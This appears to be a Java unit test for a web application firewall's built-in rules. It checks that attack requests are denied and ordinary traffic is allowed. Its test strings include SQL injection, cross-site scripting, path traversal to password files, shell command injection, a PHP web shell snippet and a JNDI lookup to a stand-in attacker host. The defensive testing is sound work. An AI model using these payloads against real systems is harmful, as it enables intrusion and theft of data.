package io.spoepolicy.policy.waf;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The built-in rule set protects without CRS and lets ordinary traffic through. */
class BuiltinRulesTest {

    static WafRules rules;

    @BeforeAll
    static void load() throws IOException {
        rules = WafRulesLoader.builtIn(List.of());
    }

    private static WafResult eval(WafRequest request) {
        return new WafEngine(rules, WafSettings.DEFAULTS).evaluate(request);
    }

    @Test
    void loadsEveryBuiltInRule() {
        assertThat(rules.report().skipped()).isEmpty();
        assertThat(rules.report().rulesLoaded()).isGreaterThan(15);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "/items?id=1%20OR%201%3D1",
        "/items?id=1'%20or%20'1'%3D'1",
        "/items?id=1%20UNION%20ALL%20SELECT%20user,password%20FROM%20users",
        "/items?id=1;DROP%20TABLE%20users--",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "/search?q=%22%3E%3Csvg/onload%3Dalert(1)%3E",
        "/download?file=../../../../etc/passwd",
        "/download?file=..%252f..%252f..%252fetc%252fpasswd",
        "/static/..%c0%af..%c0%afwindows/win.ini",
        "/ping?host=127.0.0.1;cat%20/etc/shadow",
        "/ping?host=127.0.0.1%7Cwhoami",
        "/x?q=%24%7Bjndi:ldap://evil.example/a%7D",
        "/x?code=%3C%3Fphp%20system($_GET[c]);",
    })
    void deniesCommonAttacks(String uri) {
        WafResult r = eval(Requests.get(uri).build());
        assertThat(r.action()).as(uri + " -> " + r).isEqualTo(WafAction.DENY);
        assertThat(r.anomalyScore()).isGreaterThanOrEqualTo(5);
        assertThat(r.matchedRuleIds()).contains(210990L);
        assertThat(r.message()).startsWith("Inbound anomaly score exceeded");
    }

    @Test
    void deniesScannerUserAgents() {
        WafResult r = eval(Requests.get("/").header("user-agent", "sqlmap/1.8#stable (https://sqlmap.org)").build());
        assertThat(r.action()).isEqualTo(WafAction.DENY);
        assertThat(r.matchedRuleIds()).contains(210500L);
    }

    @Test
    void deniesAttacksInFormAndJsonBodies() {
        WafResult form = eval(Requests.postForm("/login", "user=admin'--&pass=x").build());
        assertThat(form.action()).isEqualTo(WafAction.DENY);
        WafResult json = eval(Requests.postForm("/api", "").header("content-type", "application/json")
                .body("{\"comment\":{\"text\":\"<script>alert(document.cookie)</script>\"}}").build());
        assertThat(json.action()).isEqualTo(WafAction.DENY);
        assertThat(json.matchedRuleIds()).contains(210200L);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "/",
        "/products?category=shoes&size=42&color=dark%20blue&sort=price_asc&page=2",
        "/search?q=how+to+select+a+good+union+representative",
        "/search?q=Tom+%26+Jerry%3A+the+cat+and+the+mouse",
        "/blog/2024/05/why-we-love-or-hate-sql",
        "/search?q=O%27Brien%20and%20sons",
        "/docs/index.html?ref=nav#",
        "/calc?expr=1%2B2%3D3",
        "/api/v1/users/42/orders?from=2024-01-01&to=2024-12-31",
        "/search?q=select+the+best+option+from+the+list",
    })
    void allowsOrdinaryRequests(String uri) {
        WafResult r = eval(Requests.get(uri).build());
        assertThat(r.action()).as(uri + " -> " + r).isEqualTo(WafAction.ALLOW);
        assertThat(r.matchedRuleIds()).isEmpty();
        assertThat(r.anomalyScore()).isZero();
    }

    @Test
    void allowsOrdinaryFormPost() {
        WafResult r = eval(Requests.postForm("/checkout",
                "name=Jane+Doe&street=12+Main+St.&city=Springfield&note=Please+ring+twice%2C+thanks%21"
                        + "&email=jane%40example.org&qty=3").build());
        assertThat(r.action()).as(r.toString()).isEqualTo(WafAction.ALLOW);
    }

    @Test
    void paranoiaLevelTwoAddsStricterRules() {
        WafRequest request = Requests.get("/").header("user-agent", "").build();
        WafResult pl1 = new WafEngine(rules, WafSettings.DEFAULTS).evaluate(request);
        WafResult pl2 = new WafEngine(rules, WafSettings.DEFAULTS.withParanoiaLevel(2)).evaluate(request);
        assertThat(pl1.matchedRuleIds()).doesNotContain(210710L);
        assertThat(pl2.matchedRuleIds()).contains(210710L);
        assertThat(pl2.anomalyScore()).isEqualTo(2);
        assertThat(pl2.action()).isEqualTo(WafAction.ALLOW);
    }
}
